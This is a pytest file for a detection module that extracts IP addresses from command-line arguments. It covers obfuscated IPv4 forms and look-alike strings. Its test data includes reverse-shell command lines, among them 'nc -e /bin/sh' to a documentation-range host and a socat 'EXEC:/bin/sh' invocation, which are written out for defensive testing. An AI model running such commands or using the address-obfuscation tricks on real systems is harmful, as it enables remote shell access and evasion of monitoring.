"""IP literals in arguments: the forms attackers use, and the look-alikes that are not."""

from __future__ import annotations

import pytest

from osquery_netutil.events.ipargs import find_ips, ip_columns, parse_loose_ipv4

CASES = [
    # (utility, argv, ip_args, public_ip_args)
    ("netcat", ["nc", "-e", "/bin/sh", "203.0.113.7", "4444"], "203.0.113.7", ""),   # documentation range
    ("netcat", ["nc", "-w", "3", "8.8.8.8", "53"], "8.8.8.8", "8.8.8.8"),
    ("netcat", ["nc", "-nv", "0x7f.1", "80"], "127.0.0.1", ""),
    ("curl", ["curl", "-o", "/tmp/x", "http://1.1.1.1:8080/a"], "1.1.1.1", "1.1.1.1"),
    ("curl", ["curl", "http://127.1/"], "127.0.0.1", ""),
    ("curl", ["curl", "http://0x7f.0.0.1/x"], "127.0.0.1", ""),
    ("curl", ["curl", "http://2130706433/"], "127.0.0.1", ""),
    ("curl", ["curl", "http://0177.0.0.1/"], "127.0.0.1", ""),
    ("curl", ["curl", "http://134744072/"], "8.8.8.8", "8.8.8.8"),
    ("curl", ["curl", "http://[::1]:8080/"], "::1", ""),
    ("curl", ["curl", "http://[2606:4700::1111]/"], "2606:4700::1111", "2606:4700::1111"),
    ("curl", ["curl", "http://[::ffff:8.8.4.4]/"], "8.8.4.4", "8.8.4.4"),
    ("curl", ["curl", "--resolve=x.test:443:9.9.9.9", "https://x.test/"], "9.9.9.9", "9.9.9.9"),
    ("curl", ["curl", "--version", "8.8.8.8"], "8.8.8.8", "8.8.8.8"),
    ("wget", ["wget", "-q", "ftp://user:pw@10.1.2.3/f"], "10.1.2.3", ""),
    ("ssh", ["ssh", "-p", "2222", "root@127.1", "uptime"], "127.0.0.1", ""),
    ("ssh", ["ssh", "-R", "8080:127.0.0.1:80", "user@[2001:db8::7]"], "127.0.0.1,2001:db8::7", ""),
    ("ssh", ["ssh", "-V", "192.0.2.1"], "192.0.2.1", ""),
    ("scp", ["scp", "f", "u@8.8.8.8:/tmp/"], "8.8.8.8", "8.8.8.8"),
    ("dig", ["dig", "@1.0.0.1", "example.test", "TXT"], "1.0.0.1", "1.0.0.1"),
    ("nslookup", ["nslookup", "x.test", "fe80::1%eth0"], "fe80::1%eth0", ""),
    ("ping", ["ping", "-c", "1", "-i", "1.5", "127.1"], "127.0.0.1", ""),
    ("ping", ["ping", "-c1", "0x08080808"], "8.8.8.8", "8.8.8.8"),
    ("ping", ["ping", "-c", "1", "100.64.0.1"], "100.64.0.1", ""),    # shared address space
    ("socat", ["socat", "TCP:127.1:80", "EXEC:/bin/sh"], "127.0.0.1", ""),
    ("socat", ["socat", "TCP4-LISTEN:4444,fork", "TCP:8.8.8.8:53"], "8.8.8.8", "8.8.8.8"),
    ("nmap", ["nmap", "-p", "1-1000", "10.0.0.0/24", "224.0.0.1"], "10.0.0.0,224.0.0.1", ""),
    ("curl", ["curl", "http://8.8.8.8/", "http://8.8.8.8/b"], "8.8.8.8", "8.8.8.8"),   # once
    # Look-alikes: versions, dates, times, numbers, names.
    ("wget", ["wget", "https://x.test/pkg-1.2.3.4-beta.tar.gz"], "", ""),
    ("curl", ["curl", "-A", "agent/v1.2.3.4", "https://x.test/"], "", ""),
    ("curl", ["curl", "-H", "Date: 2024-01-02 12:30:45", "https://x.test/"], "", ""),
    ("curl", ["curl", "--max-time", "1.5", "--retry", "3", "https://127.example/"], "", ""),
    ("curl", ["curl", "https://x.test/lib.so.1.2.3.4"], "", ""),
    ("curl", ["curl", "https://x.test/999.1.1.1"], "", ""),
    ("rsync", ["rsync", "-a", "src/", "dst/", "1.5"], "", ""),           # a bare number, not a target
    ("ping", ["ping", "-c", "3", "-W", "2", "host.test"], "", ""),
    ("netcat", ["nc", "-l", "-p", "4444"], "", ""),
    ("ssh", ["ssh", "user@host.test", "sleep", "2130706433"], "", ""),   # remote command, not the target
    ("curl", ["curl", "mailto:a@b.test"], "", ""),
]


@pytest.mark.parametrize(("utility", "argv", "ips", "public"), CASES, ids=[" ".join(c[1]) for c in CASES])
def test_ip_columns(utility: str, argv: list[str], ips: str, public: str) -> None:
    assert ip_columns(utility, argv) == (ips, public)


@pytest.mark.parametrize(
    ("text", "expected"),
    [("127.1", "127.0.0.1"), ("0x7f.1", "127.0.0.1"), ("0177.0.0.01", "127.0.0.1"), ("2130706433", "127.0.0.1"),
     ("10.65535", "10.0.255.255"), ("1.2.3.4", "1.2.3.4"),
     ("256.1.1.1", None), ("1.2.3.4.5", None), ("089.1.1.1", None), ("80", None), ("0x", None), ("a.b", None),
     ("1.16777216", None), ("", None)],
)
def test_loose_ipv4_follows_inet_aton(text: str, expected: str | None) -> None:
    ip = parse_loose_ipv4(text)
    assert (str(ip) if ip else None) == expected


def test_argv0_is_not_searched() -> None:
    assert find_ips("curl", ["/opt/1.2.3.4/curl"]) == []
